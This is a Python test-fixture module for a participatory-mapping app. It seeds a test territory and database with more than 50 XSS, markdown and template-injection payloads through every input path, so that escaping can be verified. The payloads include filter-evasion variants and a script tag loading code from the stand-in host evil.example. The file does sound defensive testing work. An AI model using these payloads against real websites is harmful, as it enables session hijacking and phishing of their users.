"""Hostile text for the escaping tests: 50+ XSS and markdown payloads, a territory whose
names carry them, and one database where they came in by every door (the form, the
CSV / GeoJSON / GeoPackage imports, answers, field entry, the action plan, moderation).

A payload that runs calls ``__xss(n)`` (or ``alert(n)``): the browser tests define
``window.__xss`` and listen for dialogs. Markdown payloads point at ``evil.example``:
rendered as text, no link to it and no coloured span may appear.
"""

from __future__ import annotations

import io
import json
import shutil
from datetime import date
from pathlib import Path

import geopandas as gpd
import shapely

from cartoparti.commands import answers, contribute, datasets, fieldwork, moderation, plan
from cartoparti.io.territory import load_territory
from cartoparti.settings import Settings
from cartoparti.storage import open_storage

ROOT = Path(__file__).resolve().parents[1]
TERRITORY = ROOT / "geodata" / "lens-lievin"
PASSWORD = "un mot de passe assez long"
ADMIN = {"name": "alice", "role": "admin"}
EVIL = "evil.example"

_SCRIPT = [
    "<script>__xss(1)</script>",
    "<SCRIPT>__xss(2)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>__xss(4)</script>",
    "'\"><script>__xss(5)</script>",
    "<scr<script>ipt>__xss(6)</scr</script>ipt>",
    "<script>alert(7)</script>",
]
_EVENTS = [
    "<img src=x onerror=__xss(10)>",
    '<img src="x" onerror="__xss(11)">',
    "<svg onload=__xss(12)>",
    "<body onload=__xss(13)>",
    "<iframe src=javascript:__xss(14)>",
    "<input autofocus onfocus=__xss(15)>",
    "<details open ontoggle=__xss(16)>",
    "<video><source onerror=__xss(17)></video>",
    "<audio src=x onerror=__xss(18)>",
    "<div onmouseover=__xss(19)>survol</div>",
    '" onmouseover="__xss(20)" x="',
    "' onfocus='__xss(21)' autofocus='",
    "<marquee onstart=__xss(22)>",
    "<object data=javascript:__xss(23)>",
    "<embed src=javascript:__xss(24)>",
    "<style>@import 'javascript:__xss(25)'</style>",
    "<link rel=stylesheet href=javascript:__xss(26)>",
]
_URLS = [
    "<a href=javascript:__xss(30)>clic</a>",
    "<a href=\"jav&#x09;ascript:__xss(31)\">clic</a>",
    "<a href='JaVaScRiPt:__xss(32)'>clic</a>",
    "<form action=javascript:__xss(33)><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss(34)'>",
    "<base href=javascript:__xss(35)//>",
]
_SVG_MATHML = [
    "<svg><script>__xss(40)</script></svg>",
    "<svg><animate onbegin=__xss(41) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:__xss(42)><text x=20 y=20>clic</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(43)>",
    "<math href=javascript:__xss(44)>clic</math>",
    "<svg><foreignObject><img src=x onerror=__xss(45)></foreignObject></svg>",
]
_ENCODED = [
    "&lt;script&gt;__xss(50)&lt;/script&gt;",
    "&#60;img src=x onerror=__xss(51)&#62;",
    "%3Cscript%3E__xss(52)%3C%2Fscript%3E",
    "\\u003cimg src=x onerror=__xss(53)\\u003e",
    "<img src=x onerror=&#95;&#95;xss(54)>",
    "＜script＞__xss(55)＜/script＞",
    "<img src=x onerror=eval(atob('X194c3MoNTYp'))>",
    "<!--<img src=x onerror=__xss(57)>-->",
    "<![CDATA[<script>__xss(58)</script>]]>",
]
_MARKDOWN = [
    "[clique ici](https://evil.example/phish)",
    "[js](javascript:__xss(60))",
    "![image](https://evil.example/pixel.png)",
    "https://evil.example/autolien",
    "www.evil.example/autolien",
    "<https://evil.example/chevrons>",
    ":red[**ROUGE**] et :blue-background[fond]",
    ":material/warning: :rainbow[arc-en-ciel]",
    "**gras** _italique_ `code` ~~barré~~",
    "# Titre injecté",
    "$\\href{https://evil.example}{maths}$",
    "[ref][1]\n\n[1]: https://evil.example/ref",
]
_TEMPLATES = [
    "{{7*191}} {{ config }}",
    "{% raw %}{{__xss(70)}}{% endraw %}",
    "${7*191} #{7*191}",
    "{{constructor.constructor('__xss(72)')()}}",
]
PAYLOADS: list[str] = _SCRIPT + _EVENTS + _URLS + _SVG_MATHML + _ENCODED + _MARKDOWN + _TEMPLATES
"""Every hostile string (at least 50)."""

MARKDOWN_SIGNS = (":red[", ":blue-background[", ":material/", ":rainbow[", "](https:", "](javascript:", "https:",
                  "www.evil.example", "evil.example/", "**gras**", "**ROUGE**")
"""Raw markdown that may only be in an element shown as plain text: a markdown body that
holds one of these would interpret it (our escaping turns ``:`` into ``\\:``, ``.`` into ``\\.``…)."""

TERRITORY_NAME = ":red[**Agglo**] [officiel](https://evil.example/t) <img src=x onerror=__xss(80)>"
ATTRIBUTION = "Données : [source](https://evil.example/a) :red[rouge] <script>__xss(81)</script>"
SOURCES = ["https://evil.example/source-autolien", ":material/home: <svg onload=__xss(82)>"]
ZONE_NAMES = {  # a few communes renamed (Lens, Liévin, Loos-en-Gohelle keep theirs for the forms)
    "62065": "<img src=x onerror=__xss(83)> Avion",
    "62133": ":red[**Billy**] [lien](https://evil.example/z)",
    "62213": "https://evil.example/commune",
}
LANDMARK_NAME = "<svg onload=__xss(84)> :red[terril] [x](https://evil.example/l)"


def hostile_territory(folder: Path) -> Path:
    """A copy of ``geodata/lens-lievin`` whose name, attribution, sources, a few zone
    names and the slag heaps' names are payloads."""
    target = folder / "lens-lievin"
    shutil.copytree(TERRITORY, target)
    (target / "cartoparti.toml").write_text(
        f"name = {json.dumps(TERRITORY_NAME)}\nattribution = {json.dumps(ATTRIBUTION)}\n"
        f"sources = {json.dumps(SOURCES)}\n",
        encoding="utf-8",
    )
    communes = json.loads((target / "communes.geojson").read_text(encoding="utf-8"))
    for feature in communes["features"]:
        code = str(feature["properties"].get("insee"))
        if code in ZONE_NAMES:
            feature["properties"]["nom"] = ZONE_NAMES[code]
    (target / "communes.geojson").write_text(json.dumps(communes), encoding="utf-8")
    heaps = json.loads((target / "terrils.geojson").read_text(encoding="utf-8"))
    for feature in heaps["features"][:3]:
        for key in ("nom", "name", "denomination", "libelle"):
            if key in feature["properties"]:
                feature["properties"][key] = LANDMARK_NAME
                break
        else:
            feature["properties"]["nom"] = LANDMARK_NAME
    (target / "terrils.geojson").write_text(json.dumps(heaps), encoding="utf-8")
    return target


def _csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def hostile_database(db_path: Path, territory: Path) -> dict[str, list[str]]:
    """Fill a new database at ``db_path`` over ``territory``: an administrator ``alice``
    and every payload through each door. Returns the contribution ids by door."""
    from cartoparti.commands import accounts

    settings = Settings()
    ids: dict[str, list[str]] = {}
    loos = shapely.Point(2.79, 50.46)
    with open_storage(db_path) as store:
        store.load_territory(load_territory(territory))
        accounts.add_user(store, "alice", role="admin", password=PASSWORD)
        # the resident's form: each payload as a title (cut to the field's length) and a text
        kinds = ["need", "memory", "proposal", "report", "weak_signal"]
        ids["form"], code = [], None
        for i, payload in enumerate(PAYLOADS):  # one resident, one follow code
            receipt = contribute.submit(
                store, settings=settings, kind=kinds[i % len(kinds)], title=payload[:120], text=payload,
                theme=settings.themes[i % len(settings.themes)], follow_code=code,
                location=shapely.Point(2.70 + 0.004 * (i % 20), 50.40 + 0.004 * (i // 20)),
            )
            ids["form"].append(receipt.id)
            code = receipt.follow_code
        ids["follow_code"] = [code]
        # the imports, one file per format
        header = "kind,title,text,theme,lon,lat\n"
        rows = "".join(
            f"proposal,{_csv_cell(p[:120])},{_csv_cell(p)},nature,{2.75 + 0.003 * (i % 20)},{50.45 + 0.003 * (i // 20)}\n"
            for i, p in enumerate(PAYLOADS)
        )
        before = set(store.contributions(published_only=False).id)
        datasets.import_dataset(store, ADMIN, (header + rows).encode(), name="import.csv", settings=settings)
        frame = gpd.GeoDataFrame(
            {"kind": "need", "title": [p[:120] for p in PAYLOADS], "text": PAYLOADS, "theme": "mobilité"},
            geometry=[shapely.Point(2.80 + 0.003 * (i % 20), 50.38 + 0.003 * (i // 20)) for i in range(len(PAYLOADS))],
            crs=4326,
        )
        datasets.import_dataset(store, ADMIN, frame.to_json().encode(), name="import.geojson", settings=settings)
        gpkg = db_path.with_name("import.gpkg")
        frame.assign(kind="memory").to_file(gpkg, driver="GPKG")
        datasets.import_dataset(store, ADMIN, gpkg.read_bytes(), name="import.gpkg", settings=settings)
        ids["imports"] = sorted(set(store.contributions(published_only=False).id) - before)
        # answers: one by the page's command, the others by a CSV
        first = ids["form"]
        answers.answer(store, ADMIN, first[0], status="under_study", message=PAYLOADS[0], competent=PAYLOADS[1])
        lines = "id,status,message\n" + "".join(
            f"{cid},accepted,{_csv_cell(p)}\n" for cid, p in zip(first[1:], PAYLOADS[1:], strict=False)
        )
        answers.import_answers(store, ADMIN, lines.encode(), name="reponses.csv", settings=settings)
        # field entry by an agent
        ids["field"] = [
            fieldwork.enter_for_resident(store, ADMIN, settings=settings, channel="door_to_door", session_date=date(2026, 5, 2),
                                         session_place=p[:120], kind="need", title=p[:120], text=p, theme="jeunesse",
                                         location=loos).id
            for p in PAYLOADS[:10]
        ]
        # moderation: a hidden one with a hostile reason
        moderation.hide(store, ADMIN, ids["form"][-1], PAYLOADS[10])  # the resident reads why on /suivi
        # the action plan
        for i, p in enumerate(PAYLOADS[:6]):
            plan.add_item(store, settings, ADMIN, title=p[:120], description=p, service=settings.services[0],
                          level="concertation", start_date="2026-06-01", geometry=loos,
                          contribution_ids=[first[i]], milestones=[(p[:80], "2026-07-01")])
    return ids


def brief_html(db_path: Path) -> str:
    """The council brief (HTML) of the hostile database."""
    from cartoparti.commands import brief

    with open_storage(db_path) as store:
        return brief.council_brief(store, Settings(), fmt="html").decode("utf-8")


def geojson_bytes(frame: gpd.GeoDataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.to_file(buffer, driver="GeoJSON")
    return buffer.getvalue()
